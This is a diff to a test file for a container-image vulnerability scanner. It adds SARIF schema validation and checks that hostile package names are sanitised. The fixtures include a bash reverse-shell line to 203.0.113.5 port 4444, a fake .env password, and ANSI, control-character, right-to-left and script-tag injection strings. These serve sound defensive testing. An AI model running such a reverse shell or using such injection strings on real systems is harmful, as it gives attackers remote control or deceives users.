@@ -113,7 +113,7 @@ test('bills of materials: CycloneDX validates against its schema; SPDX has what 
   assert.deepEqual(packageLines(await json([write('top.spdx.json', JSON.stringify(spdx))])), lines);
 });
 
-test('formats: where a vulnerability is from, the page, SARIF, Markdown; statuses', async () => {
+test('formats: where a vulnerability is from, the page, SARIF, which validates against its schema, Markdown; statuses', async () => {
   const found = (await json(['top:1'])).findings.map(({ rule, subject, origin }) => `${rule} ${subject} ${origin?.layer ?? ''} ${origin?.from ?? ''}`).sort();
   assert.deepEqual(found, ['CVE-2024-1 kept@1.1.0 3 own', 'CVE-2024-1 openssl@3.1 1 base']);
   const table = await run(['scan', 'top:1']);
@@ -123,6 +123,15 @@ test('formats: where a vulnerability is from, the page, SARIF, Markdown; statuse
   const page = join(scratch, 'page.html');
   const sarif = JSON.parse((await run(['scan', '-f', 'sarif', '--report', page, 'top:1'])).stdout) as { runs: { results: { ruleId: string }[] }[] };
   assert.deepEqual(sarif.runs[0]?.results.map(({ ruleId }) => ruleId), ['CVE-2024-1', 'CVE-2024-1']);
+  // It is of draft 04, but uses nothing that later drafts mean otherwise; one of its patterns is none for expressions with the flag u.
+  const { $schema: _draft, id: _id, ...schema } = JSON.parse(readFileSync(createRequire(import.meta.url).resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json'), 'utf8')) as Record<string, unknown>;
+  const validate = addFormats(new Ajv({ strict: false, unicodeRegExp: false })).compile(schema);
+  write('odd/app/a b%é.sh', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n');
+  write('odd/root/.env', 'DB_PASSWORD=\'Xk29dkQw8z\'\n');
+  for (const document of [sarif, JSON.parse((await run(['scan', '-f', 'sarif', join(scratch, 'odd')])).stdout) as { runs: { results: object[] }[] }]) {
+    assert.ok(validate(document), JSON.stringify(validate.errors?.slice(0, 3)));
+    assert.ok((document.runs[0]?.results.length ?? 0) > 0);
+  }
   assert.match(readFileSync(page, 'utf8'), /<h2>Layers<\/h2>[\s\S]*base/);
   assert.doesNotMatch(readFileSync(page, 'utf8'), /<script/i);
   assert.match((await run(['scan', '-f', 'markdown', 'top:1'])).stdout, /^\| high \| CVE-2024-1 \|/m);
@@ -147,10 +156,10 @@ test('a base that was made anew: what a rebuild mends; the picture of the family
 });
 
 test('names in an image reach no terminal and no page as they are', async () => {
-  const evil = '\x1b[31m<script>alert(1)</script>';
+  const evil = '\x1b[31m\x9b31m\u202e<script>alert(1)</script>';
   await load('evil:1', [[{ path: 'a/node_modules/x/package.json', text: JSON.stringify({ name: evil, version: '1\x1b]0;t\x07' }) }, { path: 'srv/package-lock.json', text: '{' }, { path: 'etc/os-release', text: `ID=debian\nPRETTY_NAME="${evil}"\n` }]]);
   const page = join(scratch, 'evil.html');
-  const all = [await run(['scan', '--report', page, 'evil:1']), await run(['scan', '--packages', 'evil:1']), await run(['scan', '-f', 'json', '--packages', 'evil:1'])];
-  for (const { stdout, stderr } of all) assert.doesNotMatch(stdout + stderr, /[\x00-\x08\x0b-\x1f\x7f]/);
+  const all = [await run(['scan', '--report', page, 'evil:1']), await run(['scan', '--packages', 'evil:1']), await run(['scan', '-f', 'json', '--packages', 'evil:1']), await run(['scan', '-f', 'cyclonedx', 'evil:1']), await run(['scan', '-f', 'spdx', 'evil:1'])];
+  for (const { stdout, stderr } of all) assert.doesNotMatch(stdout + stderr, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
   assert.doesNotMatch(readFileSync(page, 'utf8'), /<script/i);
 });
